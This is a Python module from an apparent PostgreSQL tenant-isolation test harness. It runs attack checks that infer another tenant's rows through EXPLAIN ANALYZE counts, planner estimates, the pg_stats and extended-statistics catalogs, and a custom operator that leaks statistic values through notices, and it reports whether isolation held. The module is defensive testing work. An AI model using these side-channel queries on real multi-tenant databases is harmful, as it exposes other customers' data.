"""Attacks that learn values without reading them: from plans and statistics."""

from __future__ import annotations

import json
from collections.abc import Iterator
from decimal import Decimal
from typing import Any, Literal

import psycopg

from tenantry.mapping.project import ROW_ID
from tenantry.postgres import ident, literal
from tenantry.prove.attacks.harness.attempt import AttackSession, Attempt, TargetTable
from tenantry.prove.attacks.harness.helpers import NO_INDEXES, makes_functions, nothing_to_see
from tenantry.prove.attacks.harness.model import AttackVerdict, attack, broken, held, in_module, not_applicable
from tenantry.prove.attacks.harness.rights import right

_PLANNERS = (
    "",
    NO_INDEXES,
    "set local enable_seqscan = off",
    "set local enable_seqscan = off; set local enable_indexscan = off; set local enable_indexonlyscan = off",
    "set local enable_seqscan = off; set local enable_bitmapscan = off",
)

Part = Literal["rows", "started", "estimates"]
"""The compared part of a plan: found and filtered rows, started subqueries, or expected rows."""

Place = tuple[TargetTable, str, str]
"""A table, a column, and the column's value in a hidden row."""

_ASIDE = ("InitPlan", "SubPlan")


def _seen(me: AttackSession, statement: str, part: Part) -> str | None:
    """Return the compared part of a statement's plan; None if the statement is refused."""
    how = "costs on" if part == "estimates" else "analyze, timing off, summary off, costs off"
    answer = me.run(f"explain ({how}, format json) {statement}", undo=True)
    if not answer.ok:
        return None
    plan = answer.value if isinstance(answer.value, list) else json.loads(answer.value)
    return ", ".join(_numbers(plan[0]["Plan"], part))


def _numbers(node: dict[str, Any], part: Part, aside: bool = False) -> Iterator[str]:
    aside = aside or node.get("Parent Relationship") in _ASIDE
    if part == "estimates":
        names: tuple[str, ...] = () if aside else ("Plan Rows",)
    elif part == "started":
        names = ("Actual Loops",) if aside else ()
    else:
        names = () if aside else ("Actual Rows", "Rows Removed by Filter", "Rows Removed by Index Recheck")
    yield from (f"{name.lower()} {node[name]:g}" for name in names if node.get(name))
    for child in node.get("Plans", ()):
        yield from _numbers(child, part, aside)


def _differs(attempt: Attempt, places: list[Place], part: Part, planners: tuple[str, ...] = _PLANNERS) -> str:
    """Return the first place whose plans differ between the value of a hidden row and a value that does not exist."""
    for planner in planners:
        with attempt.acting_as(attempt.attacker) as me:
            if planner:
                me.raw(planner)
            for target, column, there in places:
                head = f"select 1 from {target.name} where {ident(column)} ="
                values = (there, _nowhere(target, column, there))
                got = [_seen(me, f"{head} {target.value(column, value)}", part) for value in values]
                if None not in got and got[0] != got[1]:
                    one, other = (each or "nothing" for each in got)
                    return f"{target.table.name}.{column}: {one} for an existing value, {other} for one that does not exist"
    return ""


def _nowhere(target: TargetTable, column: str, there: str) -> str | None:
    """Return a value similar to `there` that no row has."""
    kind = target.column(column).type
    if kind == "uuid":
        return "ffffffff-0000-4000-8000-" + there[-12:]
    if kind.startswith(("text", "character")):
        return there + "x" if kind == "text" else None
    if kind in ("integer", "bigint") or kind.startswith("numeric"):
        return str(Decimal(there) + 103)
    return None


@attack(
    "reads",
    tries="Reads from EXPLAIN ANALYZE how many rows of another tenant a plan found and filtered out.",
    gains="The number of rows that another tenant has in any table, day by day.",
    source="https://www.postgresql.org/docs/current/sql-explain.html",
)
def explain_counts_rows_of_a_tenant(attempt: Attempt) -> AttackVerdict:
    return _of_tenants(attempt, "rows")


def _of_tenants(attempt: Attempt, part: Part) -> AttackVerdict:
    targets = [target for target in attempt.targets() if target.tenant in target.readable and not target.mixed]
    places: list[Place] = [(target, target.tenant, attempt.other) for target in targets if target.tenant is not None]
    if not places:
        return nothing_to_see()
    found = _differs(attempt, places, part)
    return (
        broken(found)
        if found
        else held(f"{len(places)} tables: the same for another tenant as for one that does not exist")
    )


@attack(
    "reads",
    tries="Reads from EXPLAIN ANALYZE whether a policy's subquery was started, which happens only for rows that fulfil the"
    " condition next to it.",
    gains="Knowledge whether rows of a tenant, a day or an amount exist, guess by guess.",
    source="https://www.postgresql.org/docs/current/rules-privileges.html",
)
def explain_tells_whether_rows_exist(attempt: Attempt) -> AttackVerdict:
    return _of_tenants(attempt, "started")


@attack(
    "reads",
    tries="Reads from EXPLAIN ANALYZE whether an index that does not begin with the tenant contains a guessed value.",
    gains="Knowledge whether an e-mail address, code or name exists in any tenant, guess by guess.",
    source="https://www.postgresql.org/docs/current/rules-privileges.html",
)
def explain_finds_a_guessed_value(attempt: Attempt) -> AttackVerdict:
    places: list[Place] = []
    for target in attempt.targets():
        for index in target.table.indexes:
            column = index.columns[0] if index.columns else None
            if column is None or column == target.tenant or column not in target.readable or index.method != "btree":
                continue
            own = {row.values.get(column) for row in target.visible}
            there = next((row.values.get(column) for row in target.hidden if row.values.get(column) not in own), None)
            # A uuid cannot be guessed.
            if (
                there is not None
                and target.column(column).type != "uuid"
                and _nowhere(target, column, there) is not None
            ):
                places.append((target, column, there))
    if not places:
        return not_applicable("every index of a table with hidden rows begins with the tenant or a uuid")
    found = _differs(attempt, places, "rows")
    return (
        broken(found)
        if found
        else held(f"{len(places)} indexes: the same numbers for an existing value as for one that does not exist")
    )


@attack(
    "reads",
    tries="Compares how many rows the planner expects for another tenant and for one that does not exist.",
    gains="The approximate number of rows of each tenant, from the statistics.",
    source="https://www.postgresql.org/docs/current/planner-stats-security.html",
)
def explain_estimates_a_tenant(attempt: Attempt) -> AttackVerdict:
    crowded = _crowd(attempt)
    if crowded is None:
        return not_applicable("no table accepts many rows that differ only in their ids")
    target, remove = crowded
    try:
        assert target.tenant is not None
        found = _differs(attempt, [(target, target.tenant, attempt.other)], "estimates", _PLANNERS[:1])
    finally:
        attempt.world.owner.execute(remove.encode())
        attempt.world.owner.execute(f"analyze {target.name}".encode())
    if found:
        return broken(found)
    return held(
        f"{target.table.name}: the planner expects the same for a tenant with 3,000 rows as for one without rows"
    )


def _crowd(attempt: Attempt) -> tuple[TargetTable, str] | None:
    """Fill a table with rows of the other tenant and analyze it; return the table and the statement that removes the rows."""
    owner = attempt.world.owner
    for target in attempt.targets():
        column = target.table.column(ROW_ID)
        if target.tenant in (None, ROW_ID) or column is None or column.type != "uuid" or target.table.kind != "table":
            continue
        if target.table.name in attempt.world.fixtures.reasons or target.tenant not in target.readable or target.mixed:
            continue
        names = [each.name for each in target.table.columns if each.generated is None and each.name != ROW_ID]
        columns = ", ".join(ident(name) for name in names)
        row = target.hidden[0].where
        filled = (
            f"insert into {target.name} ({ROW_ID}, {columns}) select gen_random_uuid(), {columns}"
            f" from {target.name}, generate_series(1, 3000) where {row}"
        )
        kept = " and ".join(f"not ({each.where})" for each in (*target.hidden, *target.visible))
        remove = f"delete from {target.name} where {ident(target.tenant or '')} = {literal(attempt.other)} and {kept}"
        try:
            owner.execute(filled.encode())
        except psycopg.Error:
            continue
        owner.execute(f"analyze {target.name}".encode())
        return target, remove
    return None


def _analyzed(attempt: Attempt) -> None:
    for target in attempt.targets():
        attempt.world.owner.execute(f"analyze {target.name}".encode())


def _shown(attempt: Attempt, views: tuple[str, ...]) -> AttackVerdict:
    _analyzed(attempt)
    refused = 0
    with attempt.acting_as(attempt.attacker) as me:
        for view in views:
            answer = me.run(f"select string_agg(s::text, ' ') from {view} as s")
            refused += not answer.ok
            # Some views show hex, in which a uuid appears as its digits.
            marks = [*attempt.marks, *(mark.replace("-", "") for mark in attempt.marks)]
            if answer.ok and any(mark in str(answer.value) for mark in marks):
                return broken(f"{view} shows values of the other tenant's rows")
    return held(f"{len(views) - refused} catalogs show no value of the other tenant, {refused} are refused")


@attack(
    "reads",
    tries="Reads the most common values and the bounds of histograms that the server keeps about each column.",
    gains="Samples of real values of all tenants.",
    source="CVE-2017-7484; https://www.postgresql.org/docs/current/view-pg-stats.html",
    rights=right("statistics"),
)
def statistics_of_columns(attempt: Attempt) -> AttackVerdict:
    return _shown(attempt, ("pg_catalog.pg_stats", "pg_catalog.pg_statistic"))


@attack(
    "reads",
    tries="Reads extended statistics: common combinations of values, and expressions.",
    gains="Combinations of real values of all tenants.",
    source="CVE-2025-8713, CVE-2024-4317",
    rights=right("statistics"),
)
def statistics_extended(attempt: Attempt) -> AttackVerdict:
    if not attempt.world.ask("select 1 from pg_statistic_ext limit 1"):
        return not_applicable("the database has no extended statistics")
    return _shown(
        attempt,
        ("pg_catalog.pg_stats_ext", "pg_catalog.pg_stats_ext_exprs", "pg_catalog.pg_statistic_ext_data"),
    )


@attack(
    "reads",
    tries="Makes an operator whose estimate passes the statistics to the attacker's function, and explains a query.",
    gains="The values in the statistics, passed to a function that reports them.",
    source="CVE-2017-7484, CVE-2019-10130, CVE-2025-8713",
)
def statistics_through_an_operator(attempt: Attempt) -> AttackVerdict:
    _analyzed(attempt)
    with attempt.acting_as(attempt.attacker) as me:
        schema = makes_functions(attempt, me)
        if schema is None:
            return held("no function can be made, and so no operator: CREATE on every schema and TEMP are refused")
        me.run(
            f"create function {schema}.tell(text, text) returns boolean language plpgsql immutable cost 0.0001"
            " as 'begin raise notice ''told: % %'', $1, $2; return true; end'"
        )
        me.run(
            f"create operator {schema}.=== (function = {schema}.tell, leftarg = text, rightarg = text, restrict = eqsel)"
        )
        for target in attempt.targets():
            for column in target.readable:
                answer = me.run(
                    f"explain select 1 from {target.name} where {ident(column)}::text operator({schema}.===) ''",
                    undo=True,
                )
                if attempt.leaked(answer.text):
                    return broken(f"{target.table.name}.{column}: planning passed values of others to an operator")
    return held("the planner passes no value of a table with policies to an operator that is not leakproof")


ATTACKS = in_module(globals())

__all__ = ["ATTACKS"]
